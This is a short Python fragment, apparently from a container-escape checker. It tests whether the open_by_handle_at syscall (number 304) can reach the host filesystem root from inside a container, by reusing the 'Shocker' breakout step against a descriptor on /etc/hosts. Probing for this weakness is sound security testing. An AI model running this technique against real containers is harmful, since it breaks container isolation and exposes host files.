# The files of another root by number, as "shocker" did.
class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
handle = Handle(8, 1)
handle.data[0] = 2
fd = os.open("/etc/hosts", os.O_RDONLY)
door("open_by_handle_at", lambda: call(304, 265, fd, ctypes.byref(handle), os.O_RDONLY))
end()
